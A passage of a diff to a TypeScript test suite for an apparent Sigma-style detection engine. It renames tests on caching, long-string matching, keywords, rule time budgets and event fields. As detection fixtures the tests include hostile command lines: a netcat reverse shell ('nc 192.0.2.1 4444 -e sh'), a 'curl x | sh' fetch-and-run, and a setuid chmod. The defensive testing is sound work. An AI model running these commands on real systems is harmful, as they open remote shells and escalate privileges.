@@ -12,7 +12,7 @@ import { rulesOf, ruleWith, SetClock, subject } from '../rules.ts';
 describe('the search for literals', () => {
   const letters = fc.string({ unit: fc.constantFrom('a', 'b', 'A', '/', '.', 'ä', '7'), minLength: 1, maxLength: 10 });
 
-  it('finds what is there, and nothing else', () => {
+  it('finds exactly the literals in a text', () => {
     fc.assert(
       fc.property(
         fc.array(letters, { maxLength: 8 }),
@@ -41,7 +41,7 @@ describe('the search for literals', () => {
 describe('the cache of matches', () => {
   const cacheOf = (sizeOf: (value: number) => number) => new MatchCache({ sizeOf, copy: (value) => value });
 
-  it('keeps what is used, and at most 2,048 entries', () => {
+  it('keeps recently used entries, at most 2,048', () => {
     const cache = cacheOf(() => 0);
     cache.set('used', 1);
     let kept = 0;
@@ -53,7 +53,7 @@ describe('the cache of matches', () => {
     assert.ok(kept >= 1_000 && kept <= 2_048, `${kept}`);
   });
 
-  it('keeps no long keys, and 2 M characters in all', () => {
+  it('keeps no long keys, and at most 2 M characters', () => {
     const cache = cacheOf(() => 0);
     cache.set('x'.repeat(4_097), 1);
     assert.equal(cache.get('x'.repeat(4_097)), undefined);
@@ -63,7 +63,7 @@ describe('the cache of matches', () => {
     assert.ok(kept > 200 && kept <= 524, `${kept}`);
   });
 
-  it('counts what values take, and keeps no large ones', () => {
+  it('counts the size of values, and keeps no large ones', () => {
     const cache = cacheOf((value) => value);
     cache.set('x', 16_385);
     assert.equal(cache.get('x'), undefined);
@@ -73,7 +73,7 @@ describe('the cache of matches', () => {
     assert.ok(kept > 32 && kept <= 128, `${kept}`);
   });
 
-  it('keeps no text that a key was cut out of', () => {
+  it('keeps no text from which a key was sliced', () => {
     const cache = cacheOf(() => 0);
     const before = heap();
     for (let i = 0; i < 200; i += 1) cache.set(`${i} ${'x'.repeat(100_000)}`.slice(0, 100), i);
@@ -82,7 +82,7 @@ describe('the cache of matches', () => {
   });
 });
 
-describe('what is kept of the views that match', () => {
+describe('the views of cached matches', () => {
   const rules = rulesOf(`title: Seen
 name: seen
 logsource: { category: process_creation }
@@ -91,7 +91,7 @@ detection: { s: { CommandLine|contains: /opt/x }, condition: s }
 title: Often
 correlation: { type: event_count, rules: [seen], group-by: [CommandLine], timespan: 1m, condition: { gt: 9 } }
 `);
-  /** Of a script whose commands have arguments of this length. */
+  /** A script whose commands have arguments of this length. */
   const script = (length: number, number: number) => {
     const commands = Array.from({ length: 20 }, (_, index) => `/opt/x${index} \${a}`).join('; ');
     const argv = ['sh', '-c', `a=${'ж'.repeat(length)}; ${commands}; : ${number}`];
@@ -102,7 +102,7 @@ correlation: { type: event_count, rules: [seen], group-by: [CommandLine], timesp
   };
   const detector = () => new Detector({ rules, clock: new SetClock() });
 
-  it('is what the views say', () => {
+  it('equal the views of the start', () => {
     const judging = detector();
     const { views } = script(100, 0);
     assert.ok(views.length > 10);
@@ -113,7 +113,7 @@ correlation: { type: event_count, rules: [seen], group-by: [CommandLine], timesp
       );
   });
 
-  it('is no text that these were cut out of', () => {
+  it('release the strings from which they were sliced', () => {
     const judging = detector();
     const before = heap();
     for (let number = 0; number < 200; number += 1) {
@@ -127,13 +127,13 @@ correlation: { type: event_count, rules: [seen], group-by: [CommandLine], timesp
   });
 
   for (const length of [1, 200])
-    it(`has a bound, with arguments of ${length} characters`, () => {
+    it(`limits their size with arguments of ${length} characters`, () => {
       const judging = detector();
       const before = heap();
       for (let number = 0; number < 2_000; number += 1) judging.match(script(length, number));
       const grown = heap() - before;
       assert.ok(grown < 5 * MEGABYTE, `${(grown / MEGABYTE).toFixed(1)} MB`);
-      assert.equal(judging.passedOver, 0);
+      assert.equal(judging.skippedViews, 0);
     });
 });
 
@@ -157,7 +157,7 @@ describe('candidates', () => {
     '1 of them',
   );
 
-  it('are never too few', () => {
+  it('include all matching rules', () => {
     const lines = fc.string({ unit: fc.constantFrom('a', 'b', 'A', '/', 'x', 'ä'), maxLength: 8 });
     fc.assert(
       fc.property(
@@ -174,7 +174,7 @@ describe('candidates', () => {
           const fields = { F, G };
           const ids = (texts: readonly string[]) =>
             new Detector({ rules: rulesOf(...texts), clock: new SetClock() })
-              .judge(subject(fields))
+              .evaluate(subject(fields))
               .map((hit) => hit.rule.id);
           const selected = ids(all.map((each, index) => rule(each, `r${index}`)));
           const tried = ids(all.map((each, index) => rule(each, `r${index}`, 'never: { Z|exists: true }\n')));
@@ -186,7 +186,7 @@ describe('candidates', () => {
   });
 });
 
-describe('long texts', () => {
+describe('long strings', () => {
   const start = (CommandLine: string) => {
     const happened = subjectOf({
       name: 'ProcessCreate',
@@ -204,7 +204,7 @@ detection:
 `;
   const hits = (member: string, line: string) => {
     const detector = new Detector({ rules: rulesOf(rule(member)), clock: new SetClock() });
-    return detector.judge({
+    return detector.evaluate({
       ...start(line),
       fields: start(line).fields,
       views: [{ Image: '/bin/x', CommandLine: line }],
@@ -212,10 +212,10 @@ detection:
   };
   const long = (middle: string) => `x ${'a'.repeat(7_000)}${middle}${'b'.repeat(7_000)} end`;
 
-  it('are searched for literals as a whole', () =>
+  it('searches long strings completely for literals', () =>
     assert.equal(hits('CommandLine|contains: needle', long('needle')).length, 1));
 
-  it('are matched by expressions in 6 KB of their head and 2 KB of their tail, which the hit says', () => {
+  it('matches expressions in 6 KB of the head and 2 KB of the tail, which the hit reports', () => {
     assert.equal(hits('CommandLine|re: needle', long('needle')).length, 0);
     for (const member of ['CommandLine|re: "^x a+"', 'CommandLine|re: "b end$"'])
       assert.deepEqual(
@@ -252,13 +252,13 @@ describe('keywords', () => {
     return payloads.map((payload) => {
       const happened = subjectOf({ name, payload, time: 0 });
       assert.ok(happened);
-      return detector.judge(happened).filter(({ rule: { id } }) => id === 'words').length;
+      return detector.evaluate(happened).filter(({ rule: { id } }) => id === 'words').length;
     });
   };
   const CONNECTION = '{ category: network_connection }';
   const START = '{ category: process_creation }';
 
-  it('are looked for in all fields of an event, whatever other rules read', () => {
+  it('search all fields of an event, regardless of the fields in other rules', () => {
     const other = rule('{ DestinationIp: 192.0.2.1 }', CONNECTION, 'other');
     for (const words of ['[203.0.113.5]', '[4443]', '[CURL]', '{ "|all": [203.0.113.5, 4443] }'])
       for (const texts of [[rule(words, CONNECTION)], [rule(words, CONNECTION), other]])
@@ -267,12 +267,12 @@ describe('keywords', () => {
       assert.deepEqual(hits([rule(words, START)], 'ProcessCreate', start), [1], words);
   });
 
-  it('are looked for neither in ids of processes nor in the name of the event', () => {
+  it("search neither process ids nor the event's name", () => {
     for (const words of ['[77001]', '[77002]', '[ProcessCreate]'])
       assert.deepEqual(hits([rule(words, START)], 'ProcessCreate', start), [0], words);
   });
 
-  it('are judged anew when a field differs that no rule names', () => {
+  it('evaluates again if a field differs that no rule names', () => {
     const [one, two] = [{ ...connection, RemoteAddress: '192.0.2.9' }, connection];
     assert.deepEqual(hits([rule('[203.0.113.5]', CONNECTION)], 'ConnectionCreate', one, two, one), [0, 1, 0]);
   });
@@ -291,7 +291,7 @@ detection:
     const payload = { Executable: `/usr/bin/${argv[0]}`, CommandLine: argv.join(' '), ProcessId: 1 };
     const start = subjectOf({ name: 'ProcessCreate', payload, time: 0, ...(isExact ? { argv } : {}) });
     assert.ok(start);
-    return new Detector({ rules: rulesOf(rule), clock: new SetClock() }).judge(start).length > 0;
+    return new Detector({ rules: rulesOf(rule), clock: new SetClock() }).evaluate(start).length > 0;
   };
   const chmod = ['chmod', '4755', '/tmp/x'];
 
@@ -311,7 +311,7 @@ detection:
       it(`${members} ${expected ? 'matches' : 'does not match'} a start ${isExact ? 'with' : 'without'} exact arguments`, () =>
         assert.equal(matches(members, chmod, { isExact }), expected));
 
-  it('read arguments as they were given, where their bounds are known', () => {
+  it('read the original arguments if their bounds are known', () => {
     const script = ['sh', '-c', 'curl x | sh'];
     assert.ok(matches('type: EXECVE, a2|contains: "curl x | sh"', script));
     assert.ok(!matches('type: EXECVE, a2|contains: "curl x | sh"', script, { isExact: false }));
@@ -320,19 +320,19 @@ detection:
     assert.ok(matches('type: EXECVE, a2: longfilename', ['cat', '/my longfilename'], { isExact: false }));
   });
 
-  it('match in conditions of several selections', () =>
+  it('match in conditions with several selections', () =>
     assert.ok(matches('a0: chmod', chmod, { condition: 'any and s' })));
 });
 
 describe('a hit', () => {
   const selections = (detection: string, fields: Record<string, string>) => {
     const detector = new Detector({ rules: rulesOf(ruleWith(detection)), clock: new SetClock() });
-    return detector.judge(subject(fields)).map((hit) => hit.selections);
+    return detector.evaluate(subject(fields)).map((hit) => hit.selections);
   };
   const condition =
     'one: { A|re: x+ }\ntwo: { A: y }\nthree: { B|re: [z+, w] }\nnone: { C: c }\n_own: { A: q }\ncondition:';
 
-  it('names the first alternative that matches, in the order of the condition', () => {
+  it('contains the first matching alternative in the order of the condition', () => {
     const any = `${condition} one or (two and three) or three and not none or _own`;
     assert.deepEqual(selections(any, { A: 'x', B: 'zz' }), [['one']]);
     assert.deepEqual(selections(any, { A: 'y', B: 'w' }), [['two', 'three']]);
@@ -341,7 +341,7 @@ describe('a hit', () => {
     assert.deepEqual(selections(any, { A: 'k', B: 'w', C: 'c' }), []);
   });
 
-  it('names selections that a pattern of names refers to', () => {
+  it('contains selections that a name pattern refers to', () => {
     assert.deepEqual(selections(`${condition} (1 of t* or one) and not (none or _own)`, { A: 'k', B: 'w' }), [
       ['three'],
     ]);
@@ -349,22 +349,22 @@ describe('a hit', () => {
     assert.deepEqual(selections('s: { A: x }\ncondition: not s', { A: 'y' }), [[]]);
   });
 
-  it('names the selection again when the cache knows the event', () => {
+  it('contains the selection again for a cached event', () => {
     const detector = new Detector({ rules: rulesOf(ruleWith('s: { A: x }\ncondition: s')), clock: new SetClock() });
-    for (let n = 0; n < 2; n += 1) assert.deepEqual(detector.judge(subject({ A: 'x' }))[0]?.selections, ['s']);
+    for (let n = 0; n < 2; n += 1) assert.deepEqual(detector.evaluate(subject({ A: 'x' }))[0]?.selections, ['s']);
   });
 
-  it('names the selection that the last event of a correlation matched', () => {
+  it('contains the selection that the last event of a correlation matched', () => {
     const base = ruleWith('one: { A: x }\ntwo: { A: y }\ncondition: 1 of them', 'id: base\n');
     const correlation =
       'title: C\nid: c\ncorrelation: { type: event_count, rules: [base], group-by: [B], timespan: 1m, condition: { gte: 2 } }\n';
     const detector = new Detector({ rules: rulesOf(base, correlation), clock: new SetClock() });
-    detector.judge(subject({ A: 'x', B: 'b' }));
-    assert.deepEqual(detector.judge(subject({ A: 'y', B: 'b' }))[0]?.selections, ['two']);
+    detector.evaluate(subject({ A: 'x', B: 'b' }));
+    assert.deepEqual(detector.evaluate(subject({ A: 'y', B: 'b' }))[0]?.selections, ['two']);
   });
 });
 
-describe('the time of rules', () => {
+describe('the time budget of rules', () => {
   /** Advances whenever it is read. */
   class Slow extends SetClock {
     each = 0;
@@ -377,53 +377,53 @@ describe('the time of rules', () => {
     ruleWith('s: { A|contains: slow }\ncondition: s', 'id: slow\n'),
     ruleWith('s: { A|contains: fast }\ncondition: s', 'id: fast\n').replace('title: T', 'title: F'),
   ];
-  const judge = (detector: Detector, A: string) => detector.judge(subject({ A })).map(({ rule }) => rule.id);
+  const ruleIds = (detector: Detector, A: string) => detector.evaluate(subject({ A })).map(({ rule }) => rule.id);
 
-  it('is judged anew on a value that only looks like that of another event', () => {
+  it('does not share cached results between values with the same key text', () => {
     const rule = ruleWith('s: { A: x, B: null }\ncondition: s');
     const detector = new Detector({ rules: rulesOf(rule), clock: new SetClock() });
-    const hits = (fields: Record<string, string>) => detector.judge(subject(fields)).length;
+    const hits = (fields: Record<string, string>) => detector.evaluate(subject(fields)).length;
     const results = [hits({ A: 'x', B: '\x01' }), hits({ A: 'x' }), hits({ A: 'x\0\x01' }), hits({ A: 'x', B: '-' })];
     assert.deepEqual(results, [0, 1, 0, 0]);
   });
 
-  it('above 50 ms in a minute switches a rule off, and names it; others go on', () => {
+  it('disables and reports a rule above 50 ms per minute; others continue', () => {
     const clock = new Slow();
     const detector = new Detector({ rules: rulesOf(...two), clock });
     clock.each = 9;
     const long = 'x'.repeat(8_192);
-    for (let i = 0; i < 12; i += 1) judge(detector, `slow ${i}${long}`);
+    for (let i = 0; i < 12; i += 1) ruleIds(detector, `slow ${i}${long}`);
     clock.each = 0;
-    assert.deepEqual(judge(detector, 'slow fast'), ['fast']);
+    assert.deepEqual(ruleIds(detector, 'slow fast'), ['fast']);
     assert.deepEqual(
       detector.rules.flatMap(({ rule, off }) => (off === undefined ? [] : [`${rule.facts.id}: ${off}`])),
       ['slow: time'],
     );
   });
 
-  it('above 50 ms in a minute makes a shipped rule pass over long texts until the minute ends, and no others', () => {
+  it('makes only a shipped rule above 50 ms per minute skip long strings until the minute ends', () => {
     const clock = new Slow();
     const rules = rulesOf(...two).map((rule) => ({ ...rule, facts: { ...rule.facts, origin: 'builtin' as const } }));
     const detector = new Detector({ rules, clock });
     const long = 'x'.repeat(8_192);
-    const judged = (A: string) => detector.match(subject({ A }));
+    const evaluationOf = (A: string) => detector.match(subject({ A }));
     clock.each = 9;
-    for (let i = 0; i < 12; i += 1) judged(`slow ${i}${long}`);
+    for (let i = 0; i < 12; i += 1) evaluationOf(`slow ${i}${long}`);
     clock.each = 0;
     const attack = `slow fast ${long}`;
-    assert.deepEqual(judge(detector, 'slow fast'), ['slow', 'fast']);
-    const { matches, isWhole } = judged(attack);
+    assert.deepEqual(ruleIds(detector, 'slow fast'), ['slow', 'fast']);
+    const { matches, isWhole } = evaluationOf(attack);
     assert.deepEqual([matches.map(({ rule }) => rule.facts.id), isWhole], [['fast'], false]);
-    assert.ok(detector.passedOver > 0);
+    assert.ok(detector.skippedViews > 0);
     assert.deepEqual(
       detector.rules.map(({ off }) => off),
       [undefined, undefined],
     );
     clock.at += 60_000;
-    assert.deepEqual(judge(detector, attack), ['slow', 'fast']);
+    assert.deepEqual(ruleIds(detector, attack), ['slow', 'fast']);
   });
 
-  it('makes no shipped rule pass over a short start, however long the command line of its parent is', () => {
+  it("never makes a shipped rule skip a short start, regardless of its parent's command line", () => {
     const clock = new Slow();
     const onStarts = (title: string, selection: string) =>
       `title: ${title}\nlogsource: { product: linux, category: process_creation }\n` +
@@ -432,38 +432,38 @@ describe('the time of rules', () => {
     const rules = rulesOf(...texts).map((rule) => ({ ...rule, facts: { ...rule.facts, origin: 'builtin' as const } }));
     const detector = new Detector({ rules, clock });
     const long = 'y'.repeat(8_192);
-    const judged = (CommandLine: string) => {
+    const evaluationOf = (CommandLine: string) => {
       const payload = { Executable: '/usr/bin/tool', CommandLine, UserId: '1000' };
       const parent = { executable: '/bin/bash', commandLine: `bash ${long.slice(0, 4_000)}` };
       const of = subjectOf({ name: 'ProcessCreate', payload, time: 0, parent });
-      return of === undefined ? [] : detector.judge(of).map(({ rule: { title } }) => title);
+      return of === undefined ? [] : detector.evaluate(of).map(({ rule: { title } }) => title);
     };
     clock.each = 9;
-    for (let i = 0; i < 20; i += 1) judged(`tool slow ${i}${long}`);
+    for (let i = 0; i < 20; i += 1) evaluationOf(`tool slow ${i}${long}`);
     clock.each = 0;
-    assert.deepEqual(judged(`tool slow ${long}`), []);
-    assert.deepEqual(judged('tool slow'), ['Slow']);
+    assert.deepEqual(evaluationOf(`tool slow ${long}`), []);
+    assert.deepEqual(evaluationOf('tool slow'), ['Slow']);
   });
 
-  it('is charged by the length of the text, so that a process that did not run loses no rules', () => {
+  it('is charged by the length of the text, so that an unscheduled process disables no rules', () => {
     const clock = new Slow();
     const detector = new Detector({ rules: rulesOf(...two), clock });
     clock.each = 200;
-    for (let i = 0; i < 100; i += 1) judge(detector, `slow ${i}`);
+    for (let i = 0; i < 100; i += 1) ruleIds(detector, `slow ${i}`);
     clock.each = 0;
-    assert.deepEqual(judge(detector, 'slow'), ['slow']);
+    assert.deepEqual(ruleIds(detector, 'slow'), ['slow']);
   });
 
-  it('may take 10 µs more for each event, so that a burst of programs loses no rules', () => {
+  it('grows by 10 µs per event, so that a burst of programs disables no rules', () => {
     const clock = new Slow();
     const detector = new Detector({ rules: rulesOf(...two), clock });
     clock.each = 0.008;
-    for (let i = 0; i < 7_000; i += 1) judge(detector, `slow ${i}`);
+    for (let i = 0; i < 7_000; i += 1) ruleIds(detector, `slow ${i}`);
     clock.each = 0;
-    assert.deepEqual(judge(detector, 'slow'), ['slow']);
+    assert.deepEqual(ruleIds(detector, 'slow'), ['slow']);
   });
 
-  it('is charged for expressions that are built again and again, but not for the first time that each is', () => {
+  it('is charged for expressions that are rebuilt repeatedly, but not for the first build of each', () => {
     const clock = new Slow();
     // Each takes almost 1 MB.
     const letters = Array.from({ length: 960 }, (_, number) => String.fromCharCode(0x4e00 + 2 * number)).join('');
@@ -476,35 +476,35 @@ describe('the time of rules', () => {
     const off = (detector: Detector) => detector.rules.filter((rule) => rule.off !== undefined).length;
     clock.each = 400;
     const few = new Detector({ rules: rulesOf(...all.slice(0, 4)), clock });
-    for (let i = 0; i < 5; i += 1) judge(few, `slow ${i}`);
+    for (let i = 0; i < 5; i += 1) ruleIds(few, `slow ${i}`);
     assert.equal(off(few), 0);
     const many = new Detector({ rules: rulesOf(...all), clock });
-    for (let i = 0; i < 5; i += 1) judge(many, `slow ${i}`);
+    for (let i = 0; i < 5; i += 1) ruleIds(many, `slow ${i}`);
     assert.ok(off(many) > 0);
   });
 
-  it('is forgotten after a minute', () => {
+  it('is reset after a minute', () => {
     const clock = new Slow();
     const detector = new Detector({ rules: rulesOf(...two), clock });
     const long = 'x'.repeat(8_192);
     for (let i = 0; i < 40; i += 1) {
       clock.each = 9;
-      judge(detector, `slow ${i}${long}`);
+      ruleIds(detector, `slow ${i}${long}`);
       clock.each = 0;
       clock.at += 20_000;
     }
-    assert.deepEqual(judge(detector, 'slow'), ['slow']);
+    assert.deepEqual(ruleIds(detector, 'slow'), ['slow']);
   });
 });
 
-describe('fields', () => {
+describe('fields of events', () => {
   const fields = (
     name: string,
     payload: Record<string, unknown>,
     parent?: { executable: string; commandLine?: string },
   ) => subjectOf({ name, payload, time: 0, parent })?.fields;
 
-  it('of a start have the names of Sigma and the payload’s own', () => {
+  it('names the fields of a start as in Sigma and in the payload', () => {
     const payload = {
       Executable: '/bin/x',
       CommandLine: 'x',
@@ -542,7 +542,7 @@ describe('fields', () => {
     ['Out', 'Local', 'Remote'],
     ['In', 'Remote', 'Local'],
   ] as const)
-    it(`of a connection (${Direction}) have source and destination`, () => {
+    it(`includes source and destination of a connection (${Direction})`, () => {
       const all = fields('ConnectionCreate', {
         Direction,
         RemoteAddress: 'Remote',
@@ -557,26 +557,26 @@ describe('fields', () => {
       );
     });
 
-  it('of a connection have the program that a multi-call binary is, and the name of its user', () => {
+  it("includes the program of a multi-call binary and the user's name in a connection", () => {
     const payload = { Executable: '/bin/busybox', CommandLine: 'nc 192.0.2.1 4444 -e sh', UserId: '33' };
     const userNameOf = (userId: number) => (userId === 33 ? 'www-data' : undefined);
     const all = subjectOf({ name: 'ConnectionCreate', payload, time: 0, userNameOf })?.fields;
     assert.deepEqual([all?.Image, all?.User, all?.UserName], ['/bin/nc', 'www-data', 'www-data']);
-    const others = fields('ConnectionCreate', { ...payload, Executable: '/usr/bin/curl', UserId: '34' });
-    assert.deepEqual([others?.Image, others?.User], ['/usr/bin/curl', undefined], 'argv[0] is not believed');
+    const payloadOnly = fields('ConnectionCreate', { ...payload, Executable: '/usr/bin/curl', UserId: '34' });
+    assert.deepEqual([payloadOnly?.Image, payloadOnly?.User], ['/usr/bin/curl', undefined], 'argv[0] is not believed');
   });
 
-  it('have no value that no event gave them', () => {
+  it('leaves a field empty if no event has set it', () => {
     for (const name of ['constructor', '__proto__', 'toString']) {
       const detector = new Detector({
         rules: rulesOf(ruleWith(`s: { ${name}|exists: true }\ncondition: s`)),
         clock: new SetClock(),
       });
-      assert.equal(detector.judge(subject({ A: '1' })).length, 0, name);
+      assert.equal(detector.evaluate(subject({ A: '1' })).length, 0, name);
     }
   });
 
-  it('don’t let a payload name what the agent decides', () => {
+  it("prevents a payload from overriding the agent's own fields", () => {
     const all = fields('ProcessCreate', {
       Executable: '/bin/x',
       CommandLine: 'x',
